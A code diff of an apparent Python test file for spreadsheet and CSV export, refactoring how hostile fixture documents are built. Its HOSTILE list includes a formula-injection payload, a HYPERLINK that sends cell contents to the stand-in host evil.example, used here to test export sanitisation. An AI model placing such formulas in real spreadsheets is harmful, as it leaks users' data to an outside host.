@@ -6,7 +6,6 @@ from __future__ import annotations
 import csv
 import io
 import subprocess
-from datetime import date
 
 import openpyxl
 import pytest
@@ -15,6 +14,7 @@ from services.register import export_register
 from services.spreadsheets import export_submissions
 from storage.models import Document
 from storage.models import Submission
+from tests.support import issued_plans
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
@@ -43,18 +43,7 @@ def _submissions() -> list[Submission]:
 
 
 def _documents() -> list[Document]:
-    return [
-        Document(
-            kind="ke_hoach",
-            number=index,
-            symbol="KH-THCSMT",
-            summary=text,
-            status="issued",
-            issued_date=date(2026, 2, 10),
-            header_fields={"signer_name": text},
-        )  # fmt: skip
-        for index, text in enumerate(HOSTILE, start=1)
-    ]
+    return issued_plans(HOSTILE)
 
 
 EXPORTS = {
